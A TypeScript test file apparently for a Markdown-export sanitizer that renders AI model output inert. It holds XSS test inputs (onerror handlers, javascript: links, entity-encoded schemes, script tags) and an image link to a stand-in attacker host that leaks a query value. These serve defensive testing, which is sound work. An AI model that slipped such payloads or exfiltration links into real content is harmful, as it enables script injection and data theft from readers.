import fc from 'fast-check';
import type { Nodes, Root } from 'mdast';
import remarkGfm from 'remark-gfm';
import remarkParse from 'remark-parse';
import { unified } from 'unified';
import { visit } from 'unist-util-visit';
import { describe, expect, it } from 'vitest';
import { inertMarkdown } from '@/lib/inert-markdown';
import { HOSTILE_ANSWER } from '../e2e/xss';

const parse = (markdown: string) => unified().use(remarkParse).use(remarkGfm).parse(markdown) as Root;

/** A URL with a scheme other than the web's and mail's (browsers ignore tabs, newlines and leading blanks in it). */
const unsafeUrl = (url: string) => {
  const clean = url.replace(/[\t\n\r]/g, '').replace(/^[\u0000-\u0020]+/, '');
  return /^[^/?#]*:/.test(clean) && !/^(https?|ircs?|mailto|xmpp):/i.test(clean);
};

/** What any Markdown renderer that allows raw HTML would still turn into markup or links. */
function dangers(markdown: string): string[] {
  const found: string[] = [];
  visit(parse(markdown), (node: Nodes) => {
    if (node.type === 'html') found.push(`html ${node.value}`);
    if ((node.type === 'link' || node.type === 'image' || node.type === 'definition') && unsafeUrl(node.url)) found.push(`url ${node.url}`);
  });
  return found;
}

describe('inertMarkdown (what the Markdown export does to model text)', () => {
  it('turns raw HTML into text and blanks unsafe links, keeping the rest', () => {
    expect(dangers(HOSTILE_ANSWER).length).toBeGreaterThan(10);
    const out = inertMarkdown(HOSTILE_ANSWER);
    expect(dangers(out)).toEqual([]);
    expect(out).toContain('Here is **my answer**, with [a safe link](https://example.com/ok).');
    expect(out).toContain('\\<script>window.\\_\\_xss = "script"\\</script>');
    expect(out).toMatch(/\[markdown js link\]\(\)/);
  });

  it('turns images into links, so no viewer of the export fetches them unasked', () => {
    const out = inertMarkdown('See ![the chart](https://attacker.example/leak?q=secret) and ![ref][r].\n\n[r]: https://attacker.example/r.png');
    const images: string[] = [];
    visit(parse(out), (node: Nodes) => void ((node.type === 'image' || node.type === 'imageReference') && images.push(node.type)));
    expect(images).toEqual([]);
    expect(out).toContain('[image: the chart](https://attacker.example/leak?q=secret)');
    expect(out).toContain('[image: ref][r]');
  });

  it('leaves code alone: HTML inside code is already inert', () => {
    const text = 'Use `<div onclick=x>` like this:\n\n```html\n<script>alert(1)</script>\n```';
    expect(inertMarkdown(text)).toBe(text);
  });

  it('hides entity-encoded schemes, reference links and autolinks too', () => {
    const out = inertMarkdown('[x](&#106;avascript:alert(1)) [y][1] <javascript:alert(2)> <img src=x onerror=alert(3)>\n\n[1]: javascript:alert(4)');
    expect(dangers(out)).toEqual([]);
    expect(out).not.toMatch(/javascript:alert\([14]\)/);
  });

  it('never lets HTML or an unsafe link through, whatever the text', () => {
    const piece = fc.constantFrom('<', '>', '</', '<script>', '<img src=x onerror=a()>', '`', '```', '\n', '\n\n', '    ', '[a](', ')', '](javascript:x)', '<javascript:x>', '&#106;', '![i](data:x)', '|', '- ', '> ', '<!--', '-->', '\\', '"', 'text ');
    fc.assert(
      fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 8 })), { maxLength: 40 }), (parts) => {
        expect(dangers(inertMarkdown(parts.join('')))).toEqual([]);
      }),
      { numRuns: 1_000 },
    );
  });
});
